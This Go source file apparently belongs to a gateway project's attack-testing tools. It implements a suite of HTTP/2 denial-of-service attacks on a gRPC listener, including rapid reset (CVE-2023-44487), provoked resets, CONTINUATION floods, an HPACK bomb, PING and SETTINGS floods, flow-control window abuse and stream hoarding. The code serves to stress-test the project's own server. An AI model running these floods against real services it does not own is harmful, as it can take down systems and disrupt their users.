package classes

import (
	"context"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"google.golang.org/protobuf/encoding/protowire"

	"github.com/liveness-gateway/gateway/tools/attack/internal/wire"
)

// http2Classes are attacks on the gRPC listener by HTTP/2's frames.
func http2Classes() []*Class {
	return []*Class{
		{Family: "HTTP/2", Name: "idle connections after the preface", Attack: idleHTTP2, connections: 1500},
		{Family: "HTTP/2", Name: "rapid reset of bare HEADERS", Attack: rapidReset(false)},
		{Family: "HTTP/2", Name: "rapid reset of calls", Attack: rapidReset(true)},
		{Family: "HTTP/2", Name: "resets that the gateway is made to send", Attack: provokedReset},
		{Family: "HTTP/2", Name: "empty CONTINUATION without end", Attack: continuation(0)},
		{Family: "HTTP/2", Name: "full CONTINUATION without end", Attack: continuation(16 << 10)},
		{Family: "HTTP/2", Name: "a table of headers that unfolds", Attack: hpackBomb, Rate: 2000},
		{Family: "HTTP/2", Name: "PING", Attack: ping(true)},
		{Family: "HTTP/2", Name: "PING, answers unread", Attack: ping(false)},
		{Family: "HTTP/2", Name: "SETTINGS", Attack: settings(true)},
		{Family: "HTTP/2", Name: "SETTINGS, answers unread", Attack: settings(false)},
		{Family: "HTTP/2", Name: "SETTINGS that change the window of 100 streams", Attack: changeWindows},
		{Family: "HTTP/2", Name: "PRIORITY and unknown frames", Attack: strayFrames},
		{Family: "HTTP/2", Name: "empty DATA", Attack: emptyData},
		{Family: "HTTP/2", Name: "answers under a window of zero", Attack: zeroWindow, Rate: legalRate},
		{Family: "HTTP/2", Name: "windows opened byte by byte", Attack: smallWindows, Rate: legalRate},
		{Family: "HTTP/2", Name: "windows that overflow", Attack: windowOverflow, Rate: 2000},
		{Family: "HTTP/2", Name: "HEADERS without messages", Attack: hoard(issueMethod, false, nil)},
		{Family: "HTTP/2", Name: "half-closed streams without messages", Attack: halfClosed},
		{Family: "HTTP/2", Name: "streams of Health/Watch", Attack: hoard(watchMethod, true, wire.Message(nil))},
		{Family: "HTTP/2", Name: "streams of Health/Watch, 100 connections", Attack: hoard(watchMethod, true, wire.Message(nil)), connections: 100},
		{Family: "HTTP/2", Name: "Health/Watch without a message", Attack: hoard(watchMethod, false, nil)},
		{Family: "HTTP/2", Name: "streams of reflection", Attack: hoard(reflectionMethod, false, wire.Message(listServices()))},
		{Family: "HTTP/2", Name: "reflection, answers unread", Attack: unreadReflection},
		{Family: "HTTP/2", Name: "streams of unknown methods", Attack: hoard("/unknown.Service/Method", false, nil), Rate: 4000},
	}
}

// listServices is reflection's ServerReflectionRequest{list_services: "*"}.
func listServices() []byte {
	return protowire.AppendString(protowire.AppendTag(nil, 7, protowire.BytesType), "*")
}

func idleHTTP2(ctx context.Context, t *wire.Target) error {
	w, end := wire.Dial(ctx, t)
	defer end()
	if w == nil || !t.Next(ctx) || !w.Flush() {
		return nil
	}
	w.Drop()
	return nil
}

// flood writes one thing after another until the connection is closed. What comes back is
// read or not.
func flood(ctx context.Context, t *wire.Target, read bool, write func(w *wire.Conn)) error {
	w, end := wire.Dial(ctx, t)
	defer end()
	if w == nil {
		return nil
	}
	if read {
		go w.Drop()
	}
	for w.Alive() && t.Next(ctx) {
		write(w)
		if t.Pace.Rate > 0 {
			w.Flush()
		}
	}
	return nil
}

// rapidReset begins calls and resets them at once (CVE-2023-44487).
func rapidReset(withMessage bool) Attack {
	return func(ctx context.Context, t *wire.Target) error {
		call := smallMessage(t)
		return flood(ctx, t, true, func(w *wire.Conn) {
			stream := w.Headers(issueMethod, false)
			if withMessage {
				w.Data(stream, true, call)
			}
			w.Keep(w.WriteRSTStream(stream, http2.ErrCodeCancel))
		})
	}
}

// provokedReset makes mistakes on streams, which the gateway has to reset itself
// (CVE-2025-8671).
func provokedReset(ctx context.Context, t *wire.Target) error {
	return flood(ctx, t, true, func(w *wire.Conn) {
		stream := w.Headers(issueMethod, false)
		w.Keep(w.WriteWindowUpdate(stream, 0))
	})
}

// continuation begins headers and never ends them (CVE-2023-45288).
func continuation(size int) Attack {
	return func(ctx context.Context, t *wire.Target) error {
		begun := false
		fragment := make([]byte, size)
		for i := range fragment {
			fragment[i] = 0x82 // :method GET, indexed
		}
		return flood(ctx, t, true, func(w *wire.Conn) {
			if !begun {
				begun = true
				w.Keep(w.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: []byte{0x83}}))
			}
			w.Keep(w.WriteContinuation(1, false, fragment))
		})
	}
}

// hpackBomb names a long field of the table thousands of times.
func hpackBomb(ctx context.Context, t *wire.Target) error {
	long := strings.Repeat("x", 3<<10)
	bomb := make([]byte, 4<<10)
	for i := range bomb {
		bomb[i] = 0x80 | 62 // the newest entry of the dynamic table
	}
	return flood(ctx, t, true, func(w *wire.Conn) {
		if w.Stream == 1 {
			w.Headers(issueMethod, false, "x-long", long)
		}
		w.Keep(w.WriteHeaders(http2.HeadersFrameParam{StreamID: w.Stream, BlockFragment: bomb, EndHeaders: true, EndStream: true}))
		w.Stream += 2
	})
}

func ping(read bool) Attack {
	return func(ctx context.Context, t *wire.Target) error {
		return flood(ctx, t, read, func(w *wire.Conn) { w.Keep(w.WritePing(false, [8]byte{1})) })
	}
}

func settings(read bool) Attack {
	return func(ctx context.Context, t *wire.Target) error {
		return flood(ctx, t, read, func(w *wire.Conn) {
			w.Keep(w.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 65535}))
		})
	}
}

// changeWindows opens streams and changes the windows of all with each SETTINGS.
func changeWindows(ctx context.Context, t *wire.Target) error {
	size := uint32(0)
	return flood(ctx, t, true, func(w *wire.Conn) {
		if w.Stream < 200 {
			w.Headers(issueMethod, false)
			return
		}
		size++
		w.Keep(w.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: size & 0xffff}))
	})
}

func strayFrames(ctx context.Context, t *wire.Target) error {
	return flood(ctx, t, true, func(w *wire.Conn) {
		w.Keep(w.WritePriority(w.Stream, http2.PriorityParam{StreamDep: w.Stream + 2, Weight: 1}))
		w.Keep(w.WriteRawFrame(0xfa, 0xff, w.Stream, []byte("unknown")))
		w.Stream += 2
	})
}

// emptyData sends frames of a message that never grows (CVE-2019-9518).
func emptyData(ctx context.Context, t *wire.Target) error {
	return flood(ctx, t, true, func(w *wire.Conn) {
		if w.Stream == 1 {
			w.Headers(issueMethod, false)
		}
		w.Keep(w.WriteData(1, false, nil))
	})
}

// zeroWindow makes calls whose answers can never be sent.
func zeroWindow(ctx context.Context, t *wire.Target) error {
	w, end := wire.Dial(ctx, t, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
	defer end()
	if w == nil {
		return nil
	}
	go w.Drop()
	call := smallMessage(t)
	for t.Next(ctx) {
		w.Data(w.Headers(issueMethod, false), true, call)
		if !w.Flush() {
			return nil
		}
	}
	return nil
}

// smallWindows lets each answer be sent byte by byte.
func smallWindows(ctx context.Context, t *wire.Target) error {
	w, end := wire.Dial(ctx, t, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
	defer end()
	if w == nil {
		return nil
	}
	go w.Drop()
	call := smallMessage(t)
	for t.Next(ctx) {
		stream := w.Headers(issueMethod, false)
		w.Data(stream, true, call)
		for range 50 {
			w.Keep(w.WriteWindowUpdate(stream, 1))
		}
		if !w.Flush() {
			return nil
		}
	}
	return nil
}

// windowOverflow opens windows beyond what there is.
func windowOverflow(ctx context.Context, t *wire.Target) error {
	return flood(ctx, t, true, func(w *wire.Conn) {
		stream := w.Headers(issueMethod, false)
		w.Keep(w.WriteWindowUpdate(stream, 1<<31-1))
		w.Keep(w.WriteWindowUpdate(stream, 1<<31-1))
		if stream%64 == 1 {
			w.Keep(w.WriteWindowUpdate(0, 1<<31-1))
		}
	})
}

// hoard opens as many streams as the gateway lets it and keeps them; for one that ends it
// opens another.
func hoard(method string, end bool, data []byte) Attack {
	const most = 1000 // what clients commonly may have
	return func(ctx context.Context, t *wire.Target) error {
		w, leave := wire.Dial(ctx, t)
		defer leave()
		if w == nil {
			return nil
		}
		free := make(chan struct{}, most)
		for range most {
			free <- struct{}{}
		}
		gone := make(chan struct{})
		go func() {
			defer func() { gone <- struct{}{} }()
			w.Count(func(uint32) {
				t.Answered()
				select {
				case free <- struct{}{}:
				default:
				}
			})
		}()
		defer func() { leave(); <-gone }()
		for {
			select {
			case <-free:
			case <-ctx.Done():
				return nil
			case <-time.After(10 * time.Millisecond): // of what is answered some may be on the way
				if !w.Flush() {
					return nil
				}
				continue
			}
			if !t.Next(ctx) {
				return nil
			}
			stream := w.Headers(method, false)
			if data != nil {
				w.Data(stream, end, data)
			}
			if len(free) == 0 && !w.Flush() || !w.Alive() {
				return nil
			}
		}
	}
}

// halfClosed ends each call where its message should begin, every other one inside its
// prefix.
func halfClosed(ctx context.Context, t *wire.Target) error {
	return flood(ctx, t, true, func(w *wire.Conn) {
		if w.Stream%4 == 1 {
			w.Headers(issueMethod, true)
			return
		}
		w.Data(w.Headers(issueMethod, false), true, []byte{0, 0, 0})
	})
}

// unreadReflection asks one stream for everything and reads nothing.
func unreadReflection(ctx context.Context, t *wire.Target) error {
	w, end := wire.Dial(ctx, t)
	defer end()
	if w == nil {
		return nil
	}
	stream := w.Headers(reflectionMethod, false)
	ask := wire.Message(listServices())
	for t.Next(ctx) {
		w.Data(stream, false, ask)
		if !w.Alive() {
			return nil
		}
	}
	return nil
}
